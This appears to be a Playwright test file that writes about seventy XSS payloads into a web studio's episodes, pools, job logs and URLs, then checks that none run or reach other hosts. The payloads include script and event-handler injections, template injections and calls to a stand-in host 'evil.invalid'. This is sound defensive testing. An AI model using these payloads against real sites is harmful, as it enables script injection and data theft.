"""What people, models and servers write is text on every page: nothing of it runs, opens a dialog or is fetched.

All payloads stand on each surface at once: in queries, workers' names as a model wrote them, arguments,
outputs, errors, prompts, turns, answers, descriptions of pools and workers, and a job's log.
"""

from __future__ import annotations

import json
from concurrent.futures import ThreadPoolExecutor

import pytest
from playwright.sync_api import Page, expect

from orchestrator.engine.events import EpisodeEnded, EpisodeStarted, StepEnded, StepStarted, TurnStarted, TurnTaken
from orchestrator.plan import Step, Turn
from orchestrator.traces.store import Store, open_store
from pool_registry.actions import Failure, Observation, Status
from pool_registry.pool import Pool
from pool_registry.storage.data_folder import find_home
from pool_registry.worker import WorkerSpec
from tests.trust.trials import count_trials
from trainer.jobs.queue import JobStore
from trainer.recipe import Recipe

RUN = "window.hacked=1"
CALL = f"{RUN};fetch('//evil.invalid/f')"
PAYLOADS = [
    # elements that run or fetch
    f"<script>{RUN}</script>", "<script src=//evil.invalid/x.js></script>", f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror=\"{CALL}\">", "<img src=//evil.invalid/beacon.png?q=SECRET>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><image href=//evil.invalid/x.svg /></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}>", "<svg><use href=//evil.invalid/x.svg#a></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<iframe src=//evil.invalid/></iframe>", f"<body onload={RUN}>", f"<video><source onerror={RUN}></video>",
    "<video src=//evil.invalid/x.mp4 autoplay>", f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>x",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>", f"<object data=javascript:{RUN}>", "<object data=//evil.invalid/x.swf>",
    "<embed src=//evil.invalid/x.swf>", "<link rel=stylesheet href=//evil.invalid/x.css>", "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "<style>@import '//evil.invalid/x.css';</style>",
    "<style>body{background:url(//evil.invalid/x.png)}</style>", "<div style='background:url(//evil.invalid/x.png)'>x",
    f"<form action=//evil.invalid/><button autofocus onfocus={RUN}>x</form>", f"<math href=javascript:{RUN}>x</math>",
    f"<xss id=x tabindex=1 autofocus onfocus={RUN}></xss>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    # out of the place where the text stands
    f"'\"><img src=x onerror={RUN}>", f"</script><script>{RUN}</script>", f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>", f"</style><img src=x onerror={RUN}>", f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>", f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"", f"';{RUN};//",
    f"\u2028{RUN}\u2029", f"<img src=x onerror={RUN}//", f"<<img src=x onerror={RUN}>", f"<img/src='x'/onerror={RUN}>",
    f"<img src=x\tonerror\n=\n{RUN}>", f"\x00<img src=x onerror={RUN}>", f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cimg src=x onerror={RUN}\\u003e", f"%3Cimg%20src=x%20onerror={RUN}%3E",
    # Markdown, LaTeX and templates
    "![x](http://evil.invalid/x.png)", f"[x](javascript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)",
    "![x][1]\n\n[1]: http://evil.invalid/x.png", f"<http://evil.invalid/><img src=x onerror={RUN}>",
    f"```html\n<img src=x onerror={RUN}>\n```", f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"\\(\\url{{javascript:{RUN}}}\\)",
    f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}", f"{{% {RUN} %}}", f"#{{{RUN}}}", f"<%= {RUN} %>",
    "```mermaid\ngraph TD; A[<img src=//evil.invalid/x.png>]\n```", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
]  # fmt: skip
ALL = "\n".join(PAYLOADS)
EPISODE = "xss-payloads"


def write_episode(store: Store) -> None:
    """One episode with a step for each payload, and three steps with all of them."""
    ids = range(1, len(PAYLOADS) + 4)
    texts = [*PAYLOADS, ALL, ALL, ALL]
    # A worker's name as a model wrote it may be anything: such a step is malformed, and shown.
    steps = tuple(
        Step(k, text if k % 3 == 0 else "calc", {"instruction": text, text[:60]: [text]}, problem=text if k % 3 == 0 else None)
        for k, text in zip(ids, texts, strict=True)
    )  # fmt: skip
    put = store.traces.append
    put(EPISODE, EpisodeStarted(ALL, "xss", "no-hash", f"direct:{PAYLOADS[0]}", {}, "2026-11-21T10:00:00+00:00"))
    put(EPISODE, TurnStarted(1, 0.0))
    put(EPISODE, TurnTaken(1, Turn(steps, text=ALL, prompt=ALL, error=PAYLOADS[3]), 0.1))
    for step, text in zip(steps, texts, strict=True):
        put(EPISODE, StepStarted(step.id, 0.2, {"instruction": text}))
        put(EPISODE, StepEnded(step.id, _observation(step.id, text), 0.3))
    put(EPISODE, EpisodeEnded("answered", 0.4, answer=[ALL, {PAYLOADS[3]: PAYLOADS}], reason=ALL))


def _observation(k: int, text: str) -> Observation:
    if k % 3 == 1:
        return Observation(Status.OK, text, prompt=text, answered_by=text, instead_of=Failure(text, text))
    if k % 3 == 2:
        return Observation(Status.OK, {text: [text, {"deep": text}]}, cached=True)
    return Observation(Status.EXEC_ERR, error=Failure(text[:80], text))


def write_pool(store: Store) -> None:
    workers = tuple(
        WorkerSpec(name=f"w{k}", kind="extractor", description=text) for k, text in enumerate(PAYLOADS[:24])
    )
    chat = WorkerSpec(
        name="chat", kind="chat", description=ALL[:2000], config={"model": PAYLOADS[3], "role": ALL, "base_url": "http://127.0.0.1:9/v1"},
    )  # fmt: skip
    store.pools.save(Pool(name="xss", description=ALL[:2000], workers=(*workers, chat)))


def write_job(store: Store) -> str:
    jobs = JobStore(store.engine, store.home)
    recipe = Recipe.model_validate(
        {"name": "xss", "title": PAYLOADS[3], "pool": "xss", "sft": {"steps": 1}, "grpo": None}
    )
    row = jobs.submit(recipe)
    jobs.folder(row.id).log.write_text(ALL, encoding="utf-8")
    jobs.stop(row.id)
    return row.id


@pytest.fixture(scope="module")
def job(studio) -> str:
    def write() -> str:
        store = open_store(find_home(studio.home))
        write_pool(store)
        write_episode(store)
        found = write_job(store)
        store.traces.flush()
        store.close()
        return found

    with ThreadPoolExecutor(1) as aside:  # Playwright has an event loop in the tests' own thread
        return aside.submit(write).result()


@pytest.fixture
def dialogs(page: Page) -> list[str]:
    """The dialogs that opened: none, or the test fails. `page` itself fails on requests to other hosts."""
    seen: list[str] = []

    def told(dialog) -> None:  # type: ignore[no-untyped-def]
        seen.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", told)
    return seen


def nothing_ran(page: Page, dialogs: list[str]) -> None:
    page.wait_for_timeout(300)  # what a payload starts comes a moment later
    assert page.evaluate("window.hacked") is None and dialogs == []
    assert all(frame.evaluate("window.hacked") is None for frame in page.frames)
    bad = page.evaluate("""() => [...document.querySelectorAll('[onerror],[onload],[onfocus],[onbegin],[srcdoc],xss,marquee')]
        .map((each) => each.outerHTML.slice(0, 200))""")
    bad += page.evaluate("""() => [...document.querySelectorAll('[src],[href],[data],[action]')]
        .map((each) => each.getAttribute('src') || each.getAttribute('href') || each.getAttribute('action') || '')
        .filter((url) => /evil|^javascript|hacked/.test(url))""")
    assert bad == []
    count_trials(len(PAYLOADS))


def test_enough_payloads_are_tried():
    assert len(set(PAYLOADS)) >= 50


def test_an_episode_on_the_run_page_shows_them_as_text(page, studio_url, job, dialogs):
    page.goto(f"{studio_url}/?episode={EPISODE}")
    cards = page.locator(".run-graph-world .run-graph-card")
    expect(cards).to_have_count(len(PAYLOADS) + 3)
    expect(page.get_by_test_id("answer")).to_contain_text("<script>")
    for step in range(len(PAYLOADS) + 1, len(PAYLOADS) + 4):
        page.locator(f".run-graph-world .run-graph-card[data-id='{step}']").dispatch_event("click")
        expect(page.get_by_role("complementary", name="Inspector")).to_contain_text(f"Step {step}")
        expect(page.get_by_role("complementary", name="Inspector")).to_contain_text("<script>")
    page.goto(f"{studio_url}/?episode={EPISODE}&turn=1")
    expect(page.locator(".run-graph-world .run-graph-card")).to_have_count(len(PAYLOADS) + 3)
    nothing_ran(page, dialogs)


def test_a_pool_shows_them_as_text_on_cards_and_in_its_forms(page, studio_url, job, dialogs):
    page.goto(f"{studio_url}/pool?pool=xss")
    expect(page.locator(".page-card")).to_have_count(25)
    expect(page.locator(".page-card[data-name=w0]")).to_contain_text("<script>")
    page.get_by_role("button", name="Edit chat").click()
    expect(page.locator(".page-drawer").get_by_label("Description")).to_have_value(ALL[:2000].strip())
    nothing_ran(page, dialogs)


def test_the_traces_page_lists_and_finds_them_as_text(page, studio_url, job, dialogs):
    page.goto(f"{studio_url}/traces?pool=xss")
    expect(page.locator(f"a[href*='{EPISODE}']").first).to_contain_text("<script>")
    nothing_ran(page, dialogs)
    page.goto(f"{studio_url}/traces?text=%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E")
    expect(page.locator("main, body").first).to_be_visible()
    nothing_ran(page, dialogs)


@pytest.mark.parametrize("tab", ["", "&tab=log", "&tab=rollouts"])
def test_a_job_shows_them_as_text(page, studio_url, job, dialogs, tab):
    page.goto(f"{studio_url}/train?job={job}{tab}")
    expect(page.get_by_text("onerror=window.hacked=1").first).to_be_attached()
    nothing_ran(page, dialogs)


def test_hostile_addresses_of_a_page_are_text(page, studio_url, dialogs):
    for text in (
        "<img src=x onerror=window.hacked=1>",
        "javascript:window.hacked=1",
        "'\"><svg onload=window.hacked=1>",
    ):
        for name in ("episode", "pool", "step", "job", "q"):
            page.context.request.get(f"{studio_url}/", params={name: text})
        page.goto(f"{studio_url}/pool?pool={json.dumps(text)}")
        nothing_ran(page, dialogs)
